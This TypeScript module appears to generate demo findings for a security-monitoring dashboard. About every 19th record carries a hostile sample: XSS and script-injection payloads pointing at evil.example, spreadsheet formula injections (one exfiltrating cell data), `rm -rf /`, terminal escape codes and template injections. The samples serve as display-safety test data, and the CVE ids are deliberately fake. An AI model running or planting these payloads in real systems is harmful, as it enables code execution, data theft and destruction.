import type { JsonObject, JsonValue } from '../../base/json/json';
import type { Random } from './random';

/**
 * Texts that attackers write into a banner or a page in the hope that a tool runs them. The demo serves
 * them as the real service would, because code that shows a finding must show them as plain text.
 */
const hostileTexts: readonly string[] = [
  '220 <img src=x onerror=alert(document.domain)> ready',
  '[click to fix](command:workbench.action.quit)',
  '\u001b[2J\u001b[1;31mroot@localhost:~#\u001b[0m \u0007',
  "=cmd|' /C calc'!A0",
  'invoice\u202Efdp.exe',
  '"><script src=//evil.example/x.js></script>',
  '+HYPERLINK("http://evil.example/?leak="&A1,"open"), "quoted", and\r\na second line',
  '$(warning) **urgent** ![](https://evil.example/pixel.png) `rm -rf /`',
  `SSH-2.0-${'A'.repeat(1500)}`,
  '{{constructor.constructor("return process")()}} ${7*7} %n%n%s \\x00\\x1b',
];

const hostileInterval = 19;

/**
 * One of the hostile texts for every 19th entry, `undefined` for the others.
 * @param index position of the entry. Lists start at different positions; otherwise all would begin with
 * the same text.
 */
function hostileText(index: number): string | undefined {
  const textNumber = index / hostileInterval;
  return Number.isInteger(textNumber) ? hostileTexts[textNumber % hostileTexts.length] : undefined;
}

interface Subject {
  readonly random: Random;
  readonly host: string;
  readonly ip: string;
  readonly parentDomain: string;
  readonly index: number;
  /** When it was last seen, in the format of the service. */
  readonly seenAt: string;
}

const products: readonly (readonly [name: string, version: string | null, port: number])[] = [
  ['OpenSSH', '8.2p1', 22],
  ['nginx', '1.18.0', 443],
  ['Apache httpd', '2.4.41', 80],
  ['Microsoft IIS', '10.0', 443],
  ['vsftpd', '3.0.3', 21],
  ['Postfix', null, 25],
  ['MySQL', '5.7.33', 3306],
  ['Elasticsearch', '6.8.2', 9200],
];

const servicePorts: Readonly<Record<string, readonly [product: string, port: number]>> = {
  service_rdp: ['Microsoft Terminal Services', 3389],
  service_smb: ['Samba smbd', 445],
  service_mongodb: ['MongoDB', 27017],
  service_elasticsearch: ['Elasticsearch', 9200],
  service_ftp: ['vsftpd', 21],
  exposed_printer: ['JetDirect', 9100],
};

function port({ random, host, ip, index, seenAt }: Subject, issueType: string): JsonObject {
  const [name, version, usual] = random.pick(products);
  const [product, number] = servicePorts[issueType] ?? [name, usual];
  const banner = hostileText(index) ?? `${product} ${version ?? ''} ready`.replace('  ', ' ');
  return {
    ip,
    port: number,
    protocol: 'tcp',
    target: `${ip}:${number}`,
    domain: random.chance(0.6) ? host : null,
    product_name: product,
    product_version: issueType in servicePorts ? null : version,
    banner,
    reason: `Port ${number} answers to anyone on the Internet`,
    observations: [{ port: number, transport: 'tcp', observed_at: seenAt }],
  };
}

function tls({ random, host, index, ip }: Subject, issueType: string): JsonObject {
  const ports = random.pick([[443], [443, 8443], [993, 995], [22]]);
  return {
    target: `${host}:${ports[0] ?? 443}`,
    domain: host,
    ip,
    ports,
    connection_attributes: {
      protocol: random.pick(['TLSv1.0', 'TLSv1.1', 'SSLv3', 'TLSv1.2']),
      cipher: random.pick(['DES-CBC3-SHA', 'RC4-SHA', 'AES128-SHA', 'aes128-cbc']),
      certificate: {
        subject: `CN=${host}`,
        issuer: random.pick([
          'CN=Example Trust CA 2',
          `CN=${host}`,
          'CN=Quick Certs R3, O=Example',
        ]),
        serial: random.hex(20),
      },
    },
    evidence: issueType.startsWith('tlscert_')
      ? (hostileText(index) ?? `sha256:${random.hex(64)}`)
      : [random.pick(['TLS_RSA_WITH_RC4_128_SHA', 'TLS_RSA_WITH_3DES_EDE_CBC_SHA']), random.hex(8)],
    analysis: null,
  };
}

function web({ random, host, index, seenAt }: Subject, issueType: string): JsonObject {
  const path = random.pick(['/', '/login', '/en/contact', '/assets/app', '/api/v2/status']);
  const secure = issueType !== 'domain_missing_https_v2';
  const finalUrl = `${secure ? 'https' : 'http'}://${host}${path}`;
  const hostile = hostileText(index);
  const evidence: JsonValue = issueType.startsWith('redirect_')
    ? [`http://${host}/`, `http://www.${host}/`, finalUrl]
    : issueType === 'unsafe_sri_v2'
      ? { tag: hostile ?? '<script src="https://cdn.example/jquery.min.js">', integrity: null }
      : (hostile ?? null);
  return {
    domain: host,
    scheme: secure ? 'https' : 'http',
    initial_url: `http://${host}${path}`,
    final_url: finalUrl,
    target: finalUrl,
    analysis: random.pick(['missing', 'incorrect', 'unsafe']),
    analysis_description: `The response of ${path} was judged by its headers.\nSee the evidence.`,
    evidence,
    observations: Array.from({ length: random.below(3) }, () => ({
      final_url: finalUrl,
      observed_at: seenAt,
      headers: { server: random.pick(['nginx', 'Apache', 'cloud-edge']), via: null },
    })),
  };
}

function vulnerability({ random, host, ip, index }: Subject): JsonObject {
  const [product, version, number] = random.pick(products);
  // CVE numbers of these years that were never assigned to a real vulnerability.
  const year = 2019 + random.below(5);
  const day = `${year}-0${random.below(9) + 1}-${10 + random.below(18)}`;
  return {
    vulnerability_id: `CVE-${year}-${90_000 + random.below(10_000)}`,
    vulnerability_publish_date: day,
    vulnerability_description: `A flaw in ${product} lets a remote attacker read memory.`,
    ip,
    ports: [number],
    domain: random.chance(0.5) ? host : null,
    product_name: product,
    product_version: version,
    connection_attributes: [{ dst_port: number, dst_ip: ip }, 'tcp'],
    evidence: hostileText(index) ?? `cpe:/a:${product.toLowerCase().replaceAll(' ', '_')}`,
  };
}

function mailRecord({ random, host, parentDomain }: Subject, issueType: string): JsonObject {
  return {
    domain: host,
    target: `${issueType.startsWith('dmarc') ? '_dmarc.' : ''}${parentDomain}`,
    evidence: issueType.endsWith('_missing')
      ? null
      : random.pick([
          'v=spf1 include:_spf.mail.example ~all',
          'v=DMARC1; p=none',
          'k=rsa; 512 bit',
        ]),
    reason: null,
  };
}

function malware({ random, ip, index }: Subject): JsonObject {
  return {
    ip,
    malware_family: random.pick(['QakBot', 'Emotet', 'Andromeda', 'Mirai', 'Conficker']),
    port: 1024 + random.below(60_000),
    connection_attributes: `dst=sinkhole.example:80;asn=${64_496 + random.below(16)}`,
    evidence: hostileText(index) ?? `GET /gate.php?id=${random.hex(16)} HTTP/1.1`,
    observations: [],
  };
}

function endpoint({ random, ip }: Subject, issueType: string): JsonObject {
  const browser = issueType === 'outdated_browser';
  return {
    ip,
    product_name: random.pick(browser ? ['Chrome', 'Firefox', 'Edge'] : ['Windows 7', 'Android']),
    product_version: `${60 + random.below(40)}.0.${random.below(5000)}`,
    evidence: { user_agent: `Mozilla/5.0 (demo; rv:${60 + random.below(40)}.0)`, hits: null },
  };
}

function credentials({ random, parentDomain, index }: Subject): JsonObject {
  const user = `${random.pick(['ada', 'bo', 'carla', 'dmitri', 'esi', 'farah'])}.${random.pick(['lindqvist', 'okoro', 'ferrari', 'tanaka', 'novak'])}`;
  return {
    domain: parentDomain,
    user_name: `${user}${random.below(90) + 10}@${parentDomain}`,
    password: hostileText(index) ?? `not-a-real-password-${random.hex(4)}`,
    source: random.pick(['combo list', 'stealer log', 'forum post']),
    evidence: null,
  };
}

function lookalike({ random, parentDomain, host, index }: Subject): JsonObject {
  const name = parentDomain.split('.')[0] ?? parentDomain;
  return {
    domain: host,
    target: `${name}-${random.pick(['login', 'secure', 'support', 'pay'])}${random.below(99)}.example`,
    evidence: {
      registrar: 'Example Names Ltd',
      mx: random.chance(0.5),
      page: hostileText(index) ?? null,
    },
    analysis_description: 'The name is one edit away from yours.',
  };
}

const families: readonly (readonly [
  RegExp,
  (subject: Subject, issueType: string) => JsonObject,
])[] = [
  [/^(patching_|service_vuln|service_end)/, vulnerability],
  [/^(open_port|service_|exposed_printer)/, port],
  [/^(tls|ssh)/, tls],
  [/^(spf|dmarc|dkim)_/, mailRecord],
  [/^(malware|ransomware_infection|attack|exploit|malicious)/, malware],
  [/^outdated_/, endpoint],
  [/^compromised_/, credentials],
  [/^(typosquat|ransomware_victim)/, lookalike],
];

/** The fields that only entries of this kind of issue have. A type without a family is treated as `web`. */
export function createFields(issueType: string, subject: Subject): JsonObject {
  const family = families.find(([pattern]) => pattern.test(issueType))?.[1] ?? web;
  return family(subject, issueType);
}
